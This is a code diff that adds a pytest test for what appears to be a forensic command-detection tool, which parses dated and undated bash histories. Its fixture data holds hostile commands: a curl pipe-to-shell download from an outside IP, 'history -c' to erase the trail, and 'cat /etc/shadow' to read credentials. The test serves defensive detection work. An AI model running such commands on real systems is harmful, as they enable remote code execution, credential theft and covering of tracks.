@@ -56,3 +56,29 @@ def test_findings_group_by_user_and_class(tmp_path):
     got = {(f.rule, f.detail["user"], f.count, f.severity) for f in found}
     assert got == {("host.command.download_execute", "nobody", 2, "medium"),
                    ("host.command.anti_forensics", "nobody", 1, "high")}
+
+
+def test_shell_histories_dated_and_undated(tmp_path):
+    """bash with HISTTIMEFORMAT (#epoch lines) dates each command; without it the commands stand at
+    the file's modification time, marked undated."""
+    import os
+
+    home = tmp_path / "ev/web01/home/deploy"
+    home.mkdir(parents=True)
+    (home / ".bash_history").write_text(
+        "#1514183336\nls\n#1514183340\ncurl -s http://203.0.113.5/i.sh | sh\n#1514183350\nhistory -c\n")
+    root = tmp_path / "ev/web01/root"
+    root.mkdir(parents=True)
+    (root / ".bash_history").write_text("w\ncat /etc/shadow\n")
+    os.utime(root / ".bash_history", (1514200000, 1514200000))
+    config = parse_config({"hosts": {"web01": {"timezone": "UTC"}}}, "t")
+    ingest([tmp_path / "ev"], tmp_path / "case", config=config)
+    with CaseStore(tmp_path / "case") as store:
+        found = {f.rule: f for f in commands.detect(Context(store, settings_from(config)))}
+    assert set(found) == {"host.command.download_execute", "host.command.anti_forensics",
+                          "host.command.credential_access", "host.command.recon"}
+    assert found["host.command.download_execute"].detail["user"] == "deploy"
+    assert found["host.command.download_execute"].first_seen.timestamp() == 1514183340
+    shadow = found["host.command.credential_access"]
+    assert shadow.detail["user"] == "root" and shadow.detail["undated"] == 1
+    assert shadow.first_seen.timestamp() == 1514200000
